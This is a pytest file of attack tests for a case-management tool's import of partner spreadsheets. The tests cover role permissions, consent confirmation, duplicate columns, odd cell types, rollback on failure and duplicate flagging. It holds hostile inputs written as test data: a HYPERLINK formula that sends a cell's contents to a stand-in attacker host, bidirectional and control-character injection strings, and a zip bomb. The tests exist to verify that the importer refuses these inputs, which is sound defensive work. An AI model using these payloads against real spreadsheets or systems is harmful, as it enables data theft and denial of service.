"""Attacks on the HTCDS export and the import of a partner's toolkit spreadsheet (issue 18):
each test is a hostile workbook, a careless user or a role that must not get through."""

from __future__ import annotations

import datetime as dt

import openpyxl
import pytest
from sqlcipher3 import dbapi2

from idtool import cases, officers
from idtool.errors import InvalidInput, NotPermitted
from idtool.htcds import importer, partner, standard
from tests.support.htcds import GOOD, partner_sheet


def _counts(session):
    return {
        t: session.conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0]
        for t in ("persons", "cases", "interviews", "answers", "partner_imports", "audit")
    }


def _police(session):
    officers.add_officer(session, "Police One", "police", "police-pass-1")
    return session.vault.unlock("Police One", "police-pass-1")


def test_attack_a_non_supervisor_cannot_probe_or_confirm_a_partner_consent(session, tmp_path):
    path = tmp_path / "partner.xlsx"
    partner_sheet(path, [GOOD])
    (made,) = importer.import_cases(session, importer.preview(session, path), "NGO", "osh")
    mine = cases.open_case(session, full_name="Not Imported", region="osh")
    police = _police(session)
    for case_uuid in (made, mine.uuid):  # the same refusal: no oracle for "was imported"
        with pytest.raises(NotPermitted):
            partner.confirm_consent(police, case_uuid, "phoned her")
    with pytest.raises(NotPermitted):
        importer.import_cases(police, importer.preview(session, path), "NGO", "osh")
    police.close()
    assert partner.imported(session, made).consent_confirmed_at is None


def test_attack_consent_is_not_confirmed_without_saying_how(session, tmp_path):
    path = tmp_path / "partner.xlsx"
    partner_sheet(path, [GOOD])
    (made,) = importer.import_cases(session, importer.preview(session, path), "NGO", "osh")
    for note in ("", "   \n"):
        with pytest.raises(InvalidInput):
            partner.confirm_consent(session, made, note)
    assert partner.imported(session, made).consent_confirmed_at is None


def test_attack_a_duplicated_column_is_refused_not_read_half(session, tmp_path):
    # A second prs_FirstName column, empty: the name would be silently lost and the duplicate
    # rule would not see the person.
    path = tmp_path / "partner.xlsx"
    partner_sheet(path, [dict(GOOD, prs_FirstName="Айпери")])
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    column = sheet.max_column + 1
    sheet.cell(1, column, "prs_FirstName")
    sheet.cell(2, column, standard.field("prs_FirstName").label)
    book.save(path)
    with pytest.raises(InvalidInput, match="prs_FirstName"):
        importer.preview(session, path)


@pytest.mark.parametrize(
    "cell",
    [dt.datetime(2020, 1, 2, 3, 4, 5), dt.time(10, 30), True, 3.5, -7, "#REF!", "Feminine" * 5000],
    ids=["datetime", "time", "bool", "float", "int", "error", "huge"],
)
def test_attack_odd_cell_types_in_a_picklist_are_rows_that_do_not_fit(session, tmp_path, cell):
    path = tmp_path / "partner.xlsx"
    birth = cell if not isinstance(cell, dt.datetime) else "not a date"
    partner_sheet(path, [dict(GOOD, prs_Gender=cell, prs_Birthdate=birth)])
    found = importer.preview(session, path)
    assert found.cases == ()
    assert {r.column for r in found.rejected} == {"prs_Gender", "prs_Birthdate"}
    assert all(len(r.reason) < 300 for r in found.rejected)


def test_attack_a_formula_is_never_evaluated_nor_kept_as_text(session, tmp_path):
    path = tmp_path / "partner.xlsx"
    formula = '=HYPERLINK("http://evil.example/?"&B3,"Feminine")'
    partner_sheet(path, [dict(GOOD, prs_Gender=formula, prs_SecondName=formula)])
    (found,) = importer.preview(session, path).cases
    assert "prs_Gender" not in found.facts and "=" not in found.full_name


@pytest.mark.parametrize("mark", ["\u202e", "\u2066", "_x001B_[2J", "\u200f"])
def test_attack_a_reason_never_repeats_control_or_direction_characters(session, tmp_path, mark):
    path = tmp_path / "partner.xlsx"
    partner_sheet(path, [dict(GOOD, prs_Gender=f"Fem{mark}inine")])
    (rejected,) = importer.preview(session, path).rejected
    assert all(
        ch.isprintable()
        and ch not in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
        for ch in rejected.reason
    ), ascii(rejected.reason)


@pytest.mark.parametrize(
    "error",
    [dbapi2.IntegrityError("UNIQUE constraint failed: cases.number"), KeyboardInterrupt()],
    ids=["integrity", "interrupted"],
)
def test_attack_a_failure_on_a_late_row_leaves_nothing_imported(
    session, tmp_path, monkeypatch, error
):
    path = tmp_path / "partner.xlsx"
    partner_sheet(path, [dict(GOOD, prs_FirstName=f"Name{'ABCDE'[i]}") for i in range(5)])
    found = importer.preview(session, path)
    before = _counts(session)
    real = cases.open_received
    calls = []

    def failing(*args, **kwargs):
        calls.append(1)
        if len(calls) == 4:
            raise error
        return real(*args, **kwargs)

    monkeypatch.setattr(cases, "open_received", failing)
    with pytest.raises(type(error)):
        importer.import_cases(session, found, "NGO", "osh")
    assert _counts(session) == before
    monkeypatch.setattr(cases, "open_received", real)
    assert len(importer.import_cases(session, found, "NGO", "osh")) == 5


def test_attack_the_partner_source_refuses_control_and_direction_characters(session, tmp_path):
    path = tmp_path / "partner.xlsx"
    partner_sheet(path, [GOOD])
    found = importer.preview(session, path)
    for source in ("NGO\u202eOJG", "NGO\x1b[31m", "NGO\u2066x\u2069", "N" * 201):
        with pytest.raises(InvalidInput):
            importer.import_cases(session, found, source, "osh")
    assert partner.awaiting_consent(session) == []


def test_attack_importing_the_same_sheet_twice_flags_every_person_as_a_possible_duplicate(
    session, tmp_path
):
    from idtool import oversight
    from idtool.sync import conflicts

    path = tmp_path / "partner.xlsx"
    rows = [GOOD, dict(GOOD, prs_FirstName="Нурлан", prs_Birthdate="01.02.1990")]
    partner_sheet(path, rows)
    first = importer.import_cases(session, importer.preview(session, path), "NGO", "osh")
    again = importer.import_cases(session, importer.preview(session, path), "NGO", "osh")
    assert len(first) == len(again) == 2
    pairs = {frozenset((d.person_a, d.person_b)) for d in conflicts.open_duplicates(session)}
    persons = {
        u: cases.get_case(session, u, audit_view=False).person.uuid for u in (*first, *again)
    }
    assert pairs == {frozenset((persons[a], persons[b])) for a, b in zip(first, again, strict=True)}
    waiting = [i for i in oversight.queue(session) if i.kind == oversight.Kind.DUPLICATE]
    assert len(waiting) == 2


def test_attack_a_zip_bomb_is_refused_before_it_is_unpacked(session, tmp_path):
    import zipfile

    path = tmp_path / "bomb.xlsx"
    partner_sheet(path, [GOOD])
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/filler.bin", b"\0" * (65 * 1024 * 1024))
    assert path.stat().st_size < 1024 * 1024
    with pytest.raises(InvalidInput, match="MB"):
        importer.preview(session, path)
    assert partner.awaiting_consent(session) == []
